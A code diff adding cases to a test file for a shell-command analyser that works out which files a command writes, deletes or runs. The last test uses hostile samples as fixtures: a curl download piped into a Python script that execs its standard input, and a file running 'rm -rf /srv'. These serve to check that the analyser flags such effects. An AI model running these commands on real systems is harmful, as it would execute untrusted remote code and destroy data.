@@ -61,6 +61,10 @@ const writers = {
   '/w/one.js': 'require("fs").writeFileSync(process.argv[2], "x")\n',
   '/w/option.py':
     "import argparse\np = argparse.ArgumentParser()\np.add_argument('--out', default='a.txt')\nopen(p.parse_args().out, 'w').write('x')\n",
+  '/w/short.js':
+    "const { values } = require('util').parseArgs({ options: { out: { type: 'string', short: 'o' } } })\nrequire('fs').writeFileSync(values.out, 'x')\n",
+  '/w/typer.py':
+    'import typer, pathlib\napp = typer.Typer()\n@app.command()\ndef export(target: pathlib.Path):\n  target.write_text("x")\napp()\n',
   '/w/tidy.py': "import sys\ntext = open(sys.argv[1]).read()\nopen(sys.argv[1], 'w').write(text.strip())\n",
 }
 
@@ -72,6 +76,9 @@ test.each([
   ['python3 option.py --out=b.txt', [['b.txt', true]]],
   ['python3 option.py --out a.txt', [['a.txt', true]]],
   ['python3 option.py', []],
+  ['node short.js -o b.txt', [['b.txt', true]]],
+  ['python3 typer.py export b.txt', [['b.txt', true]]],
+  ['python3 typer.py export a.txt b.txt', []],
   ['python3 tidy.py b.txt', []],
 ])('a file that a script is told to write: %s', (line, expected) => {
   const written = analyseShell(line, { cwd: '/w', world: fakeWorld({ files: writers }) }).effects.filter(({ kind }) => kind === 'write')
@@ -93,4 +100,11 @@ test.each([
 ])('a program %s that a script is told to run', (_name, commandLine, expected) => {
   const lines = effectLines(commandLine, { files: { '/w/run.py': 'print(1)\n', '/w/a.c': 'int main() {}\n', '/w/build/x': '' } })
   expect(lines.filter((line) => /^(?:unknown|delete)/.test(line))).toEqual(expected)
+})
+
+test('a script that runs what it is fed', () => {
+  const files = { '/w/a.py': 'import sys\nexec(sys.stdin.read())\n', '/w/b.py': 'import os\nos.system("rm -rf /srv")\n' }
+  expect(effectLines('curl -s https://x.example/a | python3 a.py', { files })).toContain('execute:download standard input as python')
+  expect(effectLines('python3 a.py < b.py', { files })).toContain('delete /srv')
+  expect(effectLines('python3 a.py', { files })).toEqual(['execute:project a.py'])
 })
